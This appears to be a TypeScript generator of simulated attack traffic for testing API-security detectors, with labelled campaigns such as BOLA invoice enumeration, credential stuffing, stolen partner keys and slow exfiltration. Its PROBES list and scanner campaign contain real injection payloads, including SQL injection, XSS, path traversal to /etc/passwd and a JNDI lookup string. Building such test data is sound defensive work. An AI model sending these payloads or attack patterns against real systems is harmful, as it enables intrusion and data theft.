import type { AlertCategory } from '@palisade/core';
import { type Company, HOSTS, homeAddress, TOOLS, type DeviceProfile, type User } from './company.js';
import { type ExchangeFactory, type RequestSpec, sessionJwt } from './exchange-factory.js';
import type { SimExchange } from './exchange.js';
import type { Random } from './random.js';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** The alert category a detector should raise for a campaign. */
export type CampaignCategory = AlertCategory;

/** An entity a campaign involves, as detectors name them. */
export interface LabelEntity {
  kind: 'ip' | 'user' | 'api_key' | 'fingerprint' | 'session' | 'account' | 'invoice' | 'gift_card';
  value: string;
}

/** One attack campaign in `labels.json`: what happened, who did it, and what a detector should say. */
export interface CampaignLabel {
  id: string;
  category: CampaignCategory;
  /** Speed and stealth (`fast-sequential`, `low-and-slow-sparse`, …). */
  variant: string;
  /** First and last request, epoch ms. */
  start: number;
  end: number;
  entities: LabelEntity[];
  /** The alert a detector should raise, in one line. */
  expect: string;
  /** Requests the campaign sent. */
  requests: number;
}

/**
 * A campaign generates its requests one simulated day at a time and keeps its own label up to date from
 * the requests it actually emitted — the label and the traffic come from the same code.
 */
export abstract class Campaign {
  readonly label: CampaignLabel;
  readonly #entities = new Map<string, LabelEntity>();
  protected readonly random: Random;
  protected readonly company: Company;
  readonly #factory: ExchangeFactory;

  constructor(
    random: Random,
    company: Company,
    factory: ExchangeFactory,
    id: string,
    category: CampaignCategory,
    variant: string,
    expect: string,
    /** The days it runs on; a campaign another one drives (`TakeoverLabel`) has none of its own. */
    protected readonly window: Window = { firstDay: -1, days: 0 },
  ) {
    this.random = random;
    this.company = company;
    this.#factory = factory;
    this.label = {
      id,
      category,
      variant,
      start: Number.POSITIVE_INFINITY,
      end: Number.NEGATIVE_INFINITY,
      entities: [],
      expect,
      requests: 0,
    };
  }

  /** Requests of this campaign in [dayStart, dayStart + 1 day): none outside its window. */
  day(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const day = Math.floor(dayStart / DAY) - this.window.firstDay;
    if (day >= 0 && day < this.window.days) this.run(dayStart, emit);
  }

  /** The campaign's requests on one day of its window. */
  protected abstract run(dayStart: number, emit: (exchange: SimExchange) => void): void;

  /** Sends one request as part of the campaign: recorded in the label with the entities it shows. */
  protected send(emit: (exchange: SimExchange) => void, spec: RequestSpec, entities: readonly LabelEntity[] = []): SimExchange {
    const exchange = this.#factory.make(spec);
    emit(exchange);
    const label = this.label;
    label.requests++;
    if (spec.time < label.start) label.start = spec.time;
    if (spec.time > label.end) label.end = spec.time;
    this.note({ kind: 'ip', value: spec.ip });
    this.note({ kind: 'fingerprint', value: spec.device.tls.ja4 });
    for (const entity of entities) this.note(entity);
    return exchange;
  }

  /** A session of `user` starting at `time`: its Authorization header, and the user as a label entity. */
  protected session(user: User, time: number): { auth: Record<string, string>; entity: LabelEntity } {
    return { auth: { authorization: `Bearer ${sessionJwt(this.random, user, time)}` }, entity: { kind: 'user', value: `user-${user.id}` } };
  }

  protected note(entity: LabelEntity): void {
    const key = `${entity.kind}\u0000${entity.value}`;
    if (this.#entities.has(key)) return;
    this.#entities.set(key, entity);
    this.label.entities.push(entity);
  }
}

/** The days of the simulation a campaign runs on, chosen from the seed. */
export interface Window {
  firstDay: number;
  days: number;
}

/**
 * BOLA: a customer with a real account walks other customers' invoices. `fast`: sequential ids, one every
 * second or two, for an hour; `slow`: a few dozen random (sparse) ids a day, for a week, in office hours.
 */
export class BolaCampaign extends Campaign {
  readonly #attacker: User;
  readonly #fast: boolean;
  #next: number;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window, fast: boolean) {
    super(
      random,
      company,
      factory,
      id,
      'bola',
      fast ? 'fast-sequential' : 'low-and-slow-sparse',
      fast
        ? 'one user reads hundreds of invoices of other customers in sequence within an hour'
        : 'one user reads a few dozen invoices of other customers a day, scattered ids, over a week',
      window,
    );
    this.#attacker = random.pick(company.users.filter((u) => u.device.kind === 'web' && !u.natted));
    this.#fast = fast;
    this.#next = company.maxInvoice - random.int(2_000, 20_000);
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const user = this.#attacker;
    const own = new Set([...user.invoices.values()].flat());
    let time = dayStart + (10 + this.random.int(0, 8)) * HOUR + this.random.int(0, HOUR);
    const { auth, entity } = this.session(user, time);
    const count = this.#fast ? this.random.int(300, 600) : this.random.int(20, 45);
    for (let i = 0; i < count; i++) {
      time += this.#fast ? this.random.int(700, 2_200) : this.random.int(2, 25) * MINUTE;
      const invoice = this.#fast ? this.#next++ : this.random.int(5_000_000, this.company.maxInvoice);
      if (own.has(invoice)) continue;
      const exists = invoice <= this.company.maxInvoice;
      // the API checks nothing: other customers' invoices come back (the BOLA flaw); missing ids are 404
      this.send(
        emit,
        {
          time,
          ip: user.network,
          device: user.device,
          method: 'GET',
          host: HOSTS.api,
          path: `/v2/invoices/${invoice}`,
          headers: auth,
          status: exists ? 200 : 404,
          route: '/v2/invoices/{invoiceId}',
        },
        [entity],
      );
    }
  }
}

/** Rotating residential addresses: a new one every few requests (scrapers, stuffers). */
function residential(random: Random): string {
  return homeAddress(random, 16 + random.int(0, 40));
}

/**
 * Scraping: a competitor crawls the catalogue (every listing page of every category, then product pages)
 * through rotating residential IPv6 addresses with one headless-browser fingerprint and machine-regular timing.
 */
export class ScrapingCampaign extends Campaign {
  readonly #device: DeviceProfile = TOOLS.headlessChrome;
  #cursor = 0;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'scraping',
      'rotating-residential-ips',
      'one fingerprint walks the whole catalogue through hundreds of addresses at a fixed pace',
      window,
    );
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const skus = this.company.skus;
    const categories = this.company.categories;
    const listings = categories.length * 30;
    let time = dayStart + random.int(0, 3) * HOUR;
    let ip = residential(random);
    const perDay = Math.ceil((listings + skus.length) / this.window.days);
    for (let i = 0; i < perDay && this.#cursor < listings + skus.length; i++, this.#cursor++) {
      time += Math.round(1_500 * (1 + random.normal() * 0.03));
      if (i % random.int(3, 8) === 0) ip = residential(random);
      const spec: RequestSpec =
        this.#cursor < listings
          ? {
              time,
              ip,
              device: this.#device,
              method: 'GET',
              host: HOSTS.api,
              path: '/v2/products',
              query: `category=${categories[this.#cursor % categories.length]}&page=${Math.floor(this.#cursor / categories.length) + 1}&size=50`,
              status: 200,
              route: '/v2/products',
            }
          : {
              time,
              ip,
              device: this.#device,
              method: 'GET',
              host: HOSTS.api,
              path: `/v2/products/${skus[this.#cursor - listings]}`,
              status: 200,
              route: '/v2/products/{sku}',
            };
      this.send(emit, spec);
    }
  }
}

/**
 * Credential stuffing then account takeover: a list of leaked e-mail/password pairs tried against the login
 * from a few hundred addresses with one HTTP library; the few that work are used at once from the
 * attackers' own infrastructure to read the account, its invoices and their PDFs.
 */
export class CredentialStuffingCampaign extends Campaign {
  readonly takeover: TakeoverLabel;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window, takeover: TakeoverLabel) {
    super(
      random,
      company,
      factory,
      id,
      'credential_stuffing',
      'distributed',
      'thousands of failed logins for many different users from hundreds of addresses sharing one client fingerprint',
      window,
    );
    this.takeover = takeover;
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const device = TOOLS.pythonRequests;
    const vps = Array.from({ length: 60 }, (_, i) => `203.0.113.${128 + i}`);
    let time = dayStart + random.int(1, 4) * HOUR;
    const attempts = random.int(3_000, 5_000);
    for (let i = 0; i < attempts; i++) {
      time += random.int(150, 1_800);
      const real = random.chance(0.3) ? random.pick(this.company.users) : undefined;
      const username = real?.username ?? `${random.alnum(8).toLowerCase()}@mail.example`;
      const works = real !== undefined && random.chance(0.006);
      const ip = random.chance(0.7) ? random.pick(vps) : residential(random);
      this.send(emit, {
        time,
        ip,
        device,
        method: 'POST',
        host: HOSTS.api,
        path: '/v2/auth/login',
        body: JSON.stringify({ username, password: '********' }),
        status: works ? 200 : 401,
        route: '/v2/auth/login',
      });
      if (works && real !== undefined) this.takeover.takeOver(real, time, ip, emit);
    }
  }
}

/** The label of what the stuffing's successful logins led to (one campaign, its own label). */
export class TakeoverLabel extends Campaign {
  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string) {
    super(
      random,
      company,
      factory,
      id,
      'account_takeover',
      'after-credential-stuffing',
      'a successful login after failures, from a new network and client, followed at once by reading invoices and PDFs',
    );
  }

  protected run(): void {}

  /** Uses one taken-over account from the attacker's address, right after the login that worked. */
  takeOver(victim: User, loginTime: number, ip: string, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const device = TOOLS.pythonRequests;
    const { auth, entity: user } = this.session(victim, loginTime);
    let time = loginTime + random.int(2_000, 20_000);
    for (const account of victim.accounts) {
      this.send(
        emit,
        {
          time,
          ip,
          device,
          method: 'GET',
          host: HOSTS.api,
          path: `/v2/accounts/${account}`,
          headers: auth,
          status: 200,
          route: '/v2/accounts/{accountId}',
        },
        [user, { kind: 'account', value: String(account) }],
      );
      for (const invoice of victim.invoices.get(account) ?? []) {
        time += random.int(300, 1_500);
        this.send(
          emit,
          {
            time,
            ip,
            device,
            method: 'GET',
            host: HOSTS.api,
            path: `/v2/invoices/${invoice}/pdf`,
            headers: auth,
            status: 200,
            route: '/v2/invoices/{invoiceId}/pdf',
          },
          [user],
        );
      }
    }
  }
}

/**
 * A partner's API key stolen and used from new infrastructure at night: bulk exports beyond the partner's
 * month-end batch, and endpoints the partner never calls.
 */
export class PartnerKeyCampaign extends Campaign {
  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'credential_compromise',
      'partner-key-new-infrastructure',
      "a partner's API key used from networks it never used, at night, for bulk export",
      window,
    );
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const partner = this.company.partners[1] ?? (this.company.partners[0] as Company['partners'][number]);
    const ip = `2001:db8:bad:${random.hex(4)}::${random.int(2, 200).toString(16)}`;
    const device = TOOLS.goHttp;
    const headers = { 'x-api-key': partner.apiKey };
    const key: LabelEntity = { kind: 'api_key', value: partner.name };
    let time = dayStart + random.int(0, 3) * HOUR;
    for (let page = 1; page <= random.int(150, 300); page++) {
      time += random.int(400, 1_500);
      this.send(
        emit,
        {
          time,
          ip,
          device,
          method: 'GET',
          host: HOSTS.partner,
          path: '/partner/v1/export',
          query: `month=all&page=${page}`,
          headers,
          status: 200,
          route: '/partner/v1/export',
          consumer: partner.name,
        },
        [key],
      );
    }
    for (let i = 0; i < 20; i++) {
      time += random.int(1_000, 5_000);
      this.send(
        emit,
        {
          time,
          ip,
          device,
          method: 'GET',
          host: HOSTS.partner,
          path: '/partner/v1/customers',
          query: `page=${i + 1}`,
          headers,
          status: 200,
          route: '/partner/v1/customers',
          consumer: partner.name,
        },
        [key],
      );
    }
  }
}

const PROBES: Array<[path: string, query: string]> = [
  ['/.env', ''],
  ['/wp-login.php', ''],
  ['/actuator/env', ''],
  ['/.git/config', ''],
  ['/admin.php', ''],
  ['/v2/products', "category=shoes'%20OR%20'1'%3D'1"],
  ['/v2/search', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['/v2/invoices/..%2F..%2F..%2Fetc%2Fpasswd', ''],
  ['/v2/search', 'q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--'],
  ['/v2/products', 'category=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D'],
  ['/v2/internal/debug/config', ''],
  ['/v1/invoices/5000001', ''],
];

/**
 * Injection and vulnerability scanning: a scanner sweeps for well-known files (404s), then sends SQL
 * injection, XSS, path traversal and JNDI payloads in the query, path, headers and JSON bodies, and tries the
 * shadow and zombie endpoints it found.
 */
export class ScanningCampaign extends Campaign {
  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'injection',
      'scanner-sweep',
      'one address sends attack payloads and probes for files and endpoints that do not exist',
      window,
    );
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const ip = `203.0.113.${random.int(66, 90)}`;
    const device = TOOLS.scanner;
    let time = dayStart + random.int(0, 20) * HOUR;
    for (let round = 0; round < 25; round++) {
      for (const [path, query] of PROBES) {
        time += random.int(80, 600);
        const known =
          path.startsWith('/v2/products') || path.startsWith('/v2/search') || path.startsWith('/v2/internal') || path.startsWith('/v1/');
        const status = path.includes('..') ? 400 : known ? (query.includes('%27') || query.includes('UNION') ? 500 : 200) : 404;
        this.send(emit, { time, ip, device, method: 'GET', host: HOSTS.api, path, query, status, route: known ? path : '/{unknown}' });
      }
      time += random.int(80, 600);
      this.send(emit, {
        time,
        ip,
        device,
        method: 'POST',
        host: HOSTS.api,
        path: '/v2/cart/items',
        headers: { 'x-forwarded-host': '\u0024{jndi:ldap://203.0.113.66/x}' },
        body: JSON.stringify({ sku: '<img src=x onerror=alert(1)>', quantity: { $gt: 0 } }),
        status: 400,
        route: '/v2/cart/items',
      });
    }
  }
}

/**
 * Business-flow abuse: paying without going through the cart and checkout, and enumerating gift-card codes
 * (most do not exist: 404; a few do).
 */
export class BusinessFlowCampaign extends Campaign {
  readonly #attacker: User;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'business_flow_abuse',
      'gift-card-enumeration-and-skipped-checkout',
      'one user redeems hundreds of gift-card codes, most unknown, and pays without a checkout',
      window,
    );
    this.#attacker = random.pick(company.users.filter((u) => u.device.kind === 'mobile'));
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const user = this.#attacker;
    let time = dayStart + random.int(12, 22) * HOUR;
    const { auth, entity } = this.session(user, time);
    for (let i = 0; i < random.int(300, 500); i++) {
      time += random.int(500, 3_000);
      const real = random.chance(0.02);
      const code = real ? random.pick(this.company.giftCards) : `GC${random.alnum(10).toUpperCase()}`;
      this.send(
        emit,
        {
          time,
          ip: user.network,
          device: user.device,
          method: 'POST',
          host: HOSTS.api,
          path: '/v2/giftcards/redeem',
          headers: auth,
          body: JSON.stringify({ code }),
          status: real ? 200 : 404,
          route: '/v2/giftcards/redeem',
        },
        [entity],
      );
    }
    for (let i = 0; i < 5; i++) {
      time += random.int(20_000, 90_000);
      this.send(
        emit,
        {
          time,
          ip: user.network,
          device: user.device,
          method: 'POST',
          host: HOSTS.api,
          path: '/v2/checkout/pay',
          headers: auth,
          body: JSON.stringify({ method: 'giftcard', accountId: user.accounts[0] }),
          status: 200,
          route: '/v2/checkout/pay',
        },
        [entity],
      );
    }
  }
}

/**
 * Low-and-slow exfiltration: a stolen session used from a new network every day for weeks, downloading a
 * handful of invoice PDFs of many customers each day — never fast, always more.
 */
export class ExfiltrationCampaign extends Campaign {
  readonly #victim: User;
  readonly #ip: string;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'data_exfiltration',
      'low-and-slow-weeks',
      'one session downloads a few invoice PDFs of other customers every day for weeks: megabytes add up',
      window,
    );
    this.#victim = random.pick(company.users.filter((u) => u.device.kind === 'web'));
    this.#ip = `2001:db8:bad:${random.hex(4)}::${random.int(2, 200).toString(16)}`;
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const user = this.#victim;
    let time = dayStart + random.int(1, 5) * HOUR;
    const { auth, entity } = this.session(user, time);
    for (let i = random.int(8, 20); i > 0; i--) {
      time += random.int(3, 40) * MINUTE;
      const invoice = random.int(5_000_000, this.company.maxInvoice);
      this.send(
        emit,
        {
          time,
          ip: this.#ip,
          device: TOOLS.pythonRequests,
          method: 'GET',
          host: HOSTS.api,
          path: `/v2/invoices/${invoice}/pdf`,
          headers: auth,
          status: 200,
          route: '/v2/invoices/{invoiceId}/pdf',
        },
        [entity],
      );
    }
  }
}

/**
 * Zombie-API abuse: the deprecated `v1` invoice endpoint, still answering and watched by nobody, walked with
 * a customer's token by a client posing as the old app — enumeration where the current API would be noticed.
 */
export class ZombieApiCampaign extends Campaign {
  readonly #attacker: User;

  constructor(random: Random, company: Company, factory: ExchangeFactory, id: string, window: Window) {
    super(
      random,
      company,
      factory,
      id,
      'bola',
      'zombie-api-enumeration',
      "one client walks other customers' invoices through the deprecated v1 endpoint",
      window,
    );
    this.#attacker = random.pick(company.users.filter((u) => u.device.kind === 'legacy-mobile'));
  }

  protected run(dayStart: number, emit: (exchange: SimExchange) => void): void {
    const random = this.random;
    const user = this.#attacker;
    let time = dayStart + random.int(18, 22) * HOUR;
    const { auth, entity } = this.session(user, time);
    let invoice = random.int(5_000_000, this.company.maxInvoice - 200);
    for (let i = random.int(80, 150); i > 0; i--) {
      time += random.int(5_000, 30_000);
      invoice += random.int(1, 3);
      const exists = invoice <= this.company.maxInvoice;
      this.send(
        emit,
        {
          time,
          ip: user.network,
          device: user.device,
          method: 'GET',
          host: HOSTS.api,
          path: `/v1/invoices/${invoice}`,
          headers: auth,
          status: exists ? 200 : 404,
          route: '/v1/invoices/{invoiceId}',
        },
        [entity],
      );
    }
  }
}
